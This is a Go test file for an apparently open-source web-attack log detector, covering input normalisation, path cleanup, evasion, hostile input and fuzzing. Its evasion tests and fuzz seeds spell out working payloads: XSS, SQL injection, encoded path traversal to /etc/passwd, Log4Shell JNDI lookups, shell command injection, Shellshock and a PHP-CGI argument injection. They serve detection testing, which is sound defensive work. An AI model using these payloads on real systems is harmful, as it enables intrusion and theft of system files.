package webattack

import (
	"strings"
	"testing"

	"github.com/rampart-ids/rampart/internal/accesslog"
)

func TestNormaliseValue(t *testing.T) {
	tests := []struct {
		name, in string
		plus     bool
		want     string
		an       Anomaly
	}{
		{"plain", "hello", true, "hello", 0},
		{"plus as space", "a+b", true, "a b", 0},
		{"plus kept outside queries", "a+b", false, "a+b", 0},
		{"percent", "%3Cscript%3E", true, "<script>", 0},
		{"double", "%253Cscript%253E", true, "<script>", AnomDoubleEncoded},
		{"triple", "%25253Cx", true, "<x", AnomDoubleEncoded},
		{"beyond three rounds", "%2525253C", true, "%3C", AnomDoubleEncoded | AnomDeepEncoded},
		{"plus only in round one", "%2B", true, "+", 0},
		{"%u", "%u003Cscript%u003E", true, "<script>", AnomUnicodeEscape},
		{"%u fullwidth", "%uFF1Cscript%uFF1E", true, "<script>", AnomUnicodeEscape},
		{"raw fullwidth", "\uff1cscript\uff1e", true, "<script>", 0},
		{"overlong slash", "..%c0%af..%c0%af", true, "../../", AnomOverlong},
		{"overlong dot", "%c0%ae%c0%ae/", true, "../", AnomOverlong},
		{"three-byte overlong", "%e0%80%af", true, "/", AnomOverlong},
		{"entity named", "&lt;svg&gt;", true, "<svg>", AnomEntity},
		{"entity numeric", "&#60;&#x3C;&#x3c", true, "<<<", AnomEntity},
		{"entity after url", "%26lt%3Bb%26gt%3B", true, "<b>", AnomEntity},
		{"not an entity", "fish &chips", true, "fish &chips", 0},
		{"nul removed", "a%00b", true, "ab", AnomNUL},
		{"control removed", "a%01b%7f", true, "ab", AnomControl},
		{"newline kept", "a%0ab", true, "a\nb", 0},
		{"broken escapes", "%zz%u12%", true, "%zz%u12%", AnomBadEscape},
		{"soft hyphen", "%ADd", true, "-d", 0},
		{"utf-8 kept", "caf%C3%A9", true, "café", 0},
	}
	var n normaliser
	for _, tt := range tests {
		got, an := n.value(nil, []byte(tt.in), tt.plus)
		if string(got) != tt.want || an != tt.an {
			t.Errorf("%s: value(%q) = %q, %v; want %q, %v", tt.name, tt.in, got, an, tt.want, tt.an)
		}
	}
}

func TestNormPath(t *testing.T) {
	tests := []struct {
		in, want string
		an       Anomaly
	}{
		{"/a/b", "/a/b", 0},
		{"/a//b", "/a/b", 0},
		{"/a/./b", "/a/b", 0},
		{"/a/b/../c", "/a/c", 0},
		{"/a/b/..", "/a/", 0},
		{"/../etc/passwd", "/etc/passwd", AnomAboveRoot},
		{"/a/../../etc", "/etc", AnomAboveRoot},
		{`/a\..\..\win.ini`, "/win.ini", AnomAboveRoot | AnomBackslash},
		{"//.git//config", "/.git/config", 0},
		{"/", "/", 0},
	}
	for _, tt := range tests {
		got, an := normPath(nil, []byte(tt.in))
		if string(got) != tt.want || an != tt.an {
			t.Errorf("normPath(%q) = %q, %v; want %q, %v", tt.in, got, an, tt.want, tt.an)
		}
	}
}

// TestEvasion checks that each encoding trick still reaches the rule it
// hides from: the request is flagged whichever way it is written.
func TestEvasion(t *testing.T) {
	rs := builtin(t)
	d := rs.NewDetector(accesslog.Auto)
	var res Result
	for _, tt := range []struct{ technique, target string }{
		{"plain", "/s?q=<script>alert(1)</script>"},
		{"url-encoded", "/s?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E"},
		{"double url-encoded", "/s?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E"},
		{"triple url-encoded", "/s?q=%25253Cscript%25253Ealert(1)"},
		{"%u escapes", "/s?q=%u003Cscript%u003Ealert(1)"},
		{"fullwidth forms", "/s?q=%EF%BC%9Cscript%EF%BC%9Ealert(1)"},
		{"html entities", "/s?q=&lt;script&gt;alert(1)&lt;/script&gt;"},
		{"encoded entities", "/s?q=%26lt%3Bscript%26gt%3Balert(1)"},
		{"mixed case", "/s?q=<ScRiPt>alert(1)</sCrIpT>"},
		{"NUL inside", "/s?q=<scr%00ipt>alert(1)</script>"},
		{"plus for space", "/p?id=1+UNION+SELECT+1,2"},
		{"comment for space", "/p?id=1/**/UNION/**/SELECT/**/1,2"},
		{"tab for space", "/p?id=1%09union%09select%091,2"},
		{"newline for space", "/p?id=1%0aunion%0aselect%0a1,2"},
		{"traversal encoded", "/x?f=..%2f..%2f..%2fetc%2fpasswd"},
		{"traversal double-encoded", "/x?f=..%252f..%252f..%252fetc%252fpasswd"},
		{"traversal overlong", "/x?f=..%c0%af..%c0%af..%c0%afetc%c0%afpasswd"},
		{"traversal backslash", "/x?f=..%5c..%5c..%5cwindows%5cwin.ini"},
		{"traversal ....//", "/x?f=....//....//....//etc/passwd"},
		{"traversal in path", "/static/%2e%2e/%2e%2e/%2e%2e/etc/passwd"},
		{"dot segments hide a scanner path", "/a/b/../../.git/./config"},
		{"slashes hide a scanner path", "//.env"},
		{"log4j nested lookups", "/x?q=${${lower:j}ndi:ldap://x.example/a}"},
		{"log4j default values", "/x?q=${${::-j}${::-n}${::-d}${::-i}:ldap://x.example/a}"},
		{"log4j encoded", "/x?q=%24%7Bjndi%3Aldap%3A%2F%2Fx.example%2Fa%7D"},
		{"shell $IFS", "/x?ip=1;cat${IFS}/etc/passwd"},
		{"shell quotes in command", "/x?ip=1;c'a't+/etc/hosts"},
		{"shell newline separator", "/x?ip=1%0aid"},
		{"soft hyphen php-cgi", "/php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input"},
	} {
		if !d.ScanRequest(sampleRequest(tt.target), &res) {
			t.Errorf("%s: %q not flagged (score %d, matches %s, anomalies %q)", tt.technique, tt.target, res.Score, matchIDs(&res), res.Anomalies)
		}
	}
}

// TestHostileInput feeds lines no parser or normaliser should choke on:
// they end with a counted skip or a result, never a crash or a stall.
func TestHostileInput(t *testing.T) {
	rs := builtin(t)
	d := rs.NewDetector(accesslog.Auto)
	var res Result
	prefix := `192.0.2.1 - - [03/Dec/2026:10:00:00 +0000] "GET /x?q=`
	suffix := ` HTTP/1.1" 200 1 "-" "ua"`
	lines := []string{
		prefix + strings.Repeat("A", accesslog.MaxLine) + suffix, // over 1 MiB: skipped
		prefix + strings.Repeat("%25", 200000) + suffix,          // deeply nested encoding
		prefix + strings.Repeat("%zz%u12%", 50000) + suffix,      // broken escapes
		prefix + strings.Repeat("\xff\xfe\xc0", 50000) + suffix,  // invalid UTF-8
		prefix + strings.Repeat("${", 100000) + suffix,           // lookup nesting
		prefix + strings.Repeat("&#x3c", 100000) + suffix,        // entity flood
		prefix + strings.Repeat("../", 100000) + suffix,          // traversal flood
		prefix + strings.Repeat("'or'1'='1", 50000) + suffix,     // libinjection flood
		"\x00\x01\x02",
		"",
	}
	for i, l := range lines {
		before := d.Stats.Skipped
		d.Scan([]byte(l), &res)
		if i == 0 && d.Stats.Skipped != before+1 {
			t.Errorf("line over MaxLine was not counted as skipped")
		}
	}
	if d.Stats.Lines != len(lines) {
		t.Errorf("Stats.Lines = %d, want %d", d.Stats.Lines, len(lines))
	}
}

func FuzzNormalise(f *testing.F) {
	for _, s := range []string{"%253Cscript%253E", "%u003c%uFF1C", "%c0%af%e0%80%af", "&#x3c;&lt;&#60", "a+b%00%01", "%zz%u12%", "/a/../../b\\c"} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, in []byte) {
		var n normaliser
		out, _ := n.value(nil, in, true)
		// Every step only shortens or keeps: three rounds of %XX, entities
		// and overlong forms each produce at most their input's length.
		if len(out) > len(in) {
			t.Fatalf("value(%q) = %q: longer than its input", in, out)
		}
		p, _ := normPath(nil, out)
		if len(p) > len(out)+1 {
			t.Fatalf("normPath(%q) = %q: longer than its input", out, p)
		}
	})
}

func FuzzScan(f *testing.F) {
	for _, s := range []string{
		`192.0.2.1 - - [03/Dec/2026:10:00:00 +0000] "GET /s?q=%3Cscript%3E HTTP/1.1" 200 1 "-" "Mozilla/5.0"`,
		`192.0.2.1 - - [03/Dec/2026:10:00:00 +0000] "GET /s?q=%3Cscript%3E+defer+async&s=docker+run+-v+$(pwd):/app HTTP/1.1" 200 1 "-" "Mozilla/5.0"`,
		`192.0.2.1 - - [03/Dec/2026:10:00:00 +0000] "GET /x?f=..%2f..%2fetc%2fpasswd&a=1' or '1'='1 HTTP/1.1" 200 1 "-" "${jndi:ldap://x}"`,
		`{"request":{"client_ip":"192.0.2.1","uri":"/?q=%u003c","headers":{"User-Agent":["() { :; };"]}},"status":200}`,
	} {
		f.Add([]byte(s))
	}
	rules, err := BuiltinRules()
	if err != nil {
		f.Fatal(err)
	}
	rs, err := Compile(rules)
	if err != nil {
		f.Fatal(err)
	}
	f.Fuzz(func(t *testing.T, line []byte) {
		d := rs.NewDetector(accesslog.Auto)
		var res Result
		hit := d.Scan(line, &res)
		if hit != (res.Score >= ReportScore) {
			t.Fatalf("Scan = %v with score %d", hit, res.Score)
		}
		if hit && res.Top() == nil {
			t.Fatalf("flagged without a match")
		}
		allProse := len(res.Matches) > 0
		for _, m := range res.Matches {
			allProse = allProse && m.Prose
		}
		if allProse && len(res.Matches) < MaxMatches && res.Score > rs.freeText.MaxSeverity.Points() {
			t.Fatalf("only prose matches, score %d over the free-text cap", res.Score)
		}
		_ = d.Explain(line)
	})
}

// TestScanAllocs holds the miss path to zero allocations.
func TestScanAllocs(t *testing.T) {
	rs := builtin(t)
	d := rs.NewDetector(accesslog.Auto)
	var res Result
	for _, l := range []string{
		`192.0.2.10 - - [03/Dec/2026:10:00:00 +0000] "GET /blog/2026/11/how-to-bake-bread HTTP/1.1" 200 5120 "https://www.example.com/" "Mozilla/5.0 (X11; Linux x86_64)"`,
		`192.0.2.10 - - [03/Dec/2026:10:00:00 +0000] "GET /products/category/kitchen?color=navy+blue&size=m&sort=price_asc HTTP/1.1" 200 5120 "-" "Mozilla/5.0 (X11; Linux x86_64)"`,
	} {
		line := []byte(l)
		d.Scan(line, &res)
		if n := testing.AllocsPerRun(200, func() { d.Scan(line, &res) }); n != 0 {
			t.Errorf("Scan(%q) allocates %v times, want 0", l, n)
		}
	}
}
